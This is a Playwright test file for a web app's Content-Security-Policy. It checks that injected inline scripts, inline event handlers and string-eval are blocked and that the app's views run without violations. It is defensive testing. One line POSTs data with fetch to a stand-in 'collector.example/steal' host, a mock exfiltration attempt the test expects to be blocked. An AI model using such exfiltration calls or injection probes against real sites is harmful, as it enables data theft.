/* oxlint-disable no-underscore-dangle -- window.__cy and the page's own counters are test hooks */
/**
 * The built app runs under a strict Content-Security-Policy (scripts/csp.ts): an injected inline script, an
 * inline event handler, eval and a request to another host are blocked, while the whole app (Cytoscape,
 * both workers, the fcose layout, every view) works without a single violation.
 */
import { expect, test } from '@playwright/test';
import type { Page } from '@playwright/test';

import { canvasSettled, openFixture } from './helpers.ts';

/** Collects the page's CSP violation reports from before the app starts. */
async function recordViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const w = window as unknown as { __csp: string[] };
    w.__csp = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__csp.push(`${e.violatedDirective} ${e.blockedURI}${e.sourceFile ? ` at ${e.sourceFile.split("/").pop()}:${e.lineNumber}:${e.columnNumber}` : ""}`));
  });
  return () => page.evaluate(() => (window as unknown as { __csp: string[] }).__csp);
}

test('the policy is set, and injected inline script, handlers and eval do not run', async ({ page }) => {
  const violations = await recordViolations(page);
  await page.goto('/');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const directive of ["script-src 'self'", "object-src 'none'", "base-uri 'none'", "connect-src 'self'"]) expect(policy).toContain(directive);
  expect(policy).not.toContain('unsafe-inline');
  expect(policy).not.toContain('unsafe-eval');

  const ran = await page.evaluate(async () => {
    const w = window as unknown as { __inline?: number; __handler?: number; __eval?: number };
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.append(s);
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__handler = 1');
    img.src = 'data:,not-an-image';
    document.body.append(img);
    // A string timer is eval run by the page itself (code evaluated from the test would bypass the policy).
    const blocked = new Promise((r) => document.addEventListener('securitypolicyviolation', (e) => e.blockedURI === 'eval' && r(true)));
    (window.setTimeout as unknown as (code: string, ms: number) => number)('window.__eval = 1', 0);
    await new Promise((r) => img.addEventListener('error', r, { once: true }));
    await blocked;
    return { inline: w.__inline, handler: w.__handler, eval: w.__eval };
  });
  expect(ran).toEqual({ inline: undefined, handler: undefined, eval: undefined });
  const scripts = await violations();
  expect(scripts.filter((v) => v.startsWith('script-src')).length).toBeGreaterThanOrEqual(3);
  expect(scripts).toContain('script-src-elem inline');

  // A request to another host is refused by the browser before it leaves.
  const outcome = await page.evaluate(() => fetch('https://collector.example/steal', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
  expect(outcome).toBe('blocked');
  await expect.poll(async () => (await violations()).some((v) => v.startsWith('connect-src https://collector.example'))).toBe(true);
});

test('the whole app works under the policy: canvas, workers, fcose, every view, exports', async ({ page }) => {
  const violations = await recordViolations(page);
  await openFixture(page, 'small-estate.json');
  await canvasSettled(page);
  const drawn = await page.evaluate(() => (window as unknown as { __cy: { nodes(): { length: number } } }).__cy.nodes().length);
  expect(drawn).toBeGreaterThan(3);
  await page.getByRole('navigation', { name: 'AI integrations' }).getByRole('button', { name: /Finance agent/ }).click();
  await canvasSettled(page);
  await page.goto('/?view=board');
  await expect(page.getByRole('region', { name: 'Risk board' }).getByTestId('board-headline')).toBeVisible();
  await page.goto('/?view=findings');
  await expect(page.getByRole('banner')).toBeVisible();
  await page.goto('/');
  await canvasSettled(page);
  // Nothing is blocked, not even zod's feature probe (`new Function('')`): the model sets zod jitless before
  // it builds a schema, wherever the validator ends up in the bundle (src/model/inventory-schema.ts).
  expect(await violations()).toEqual([]);
});
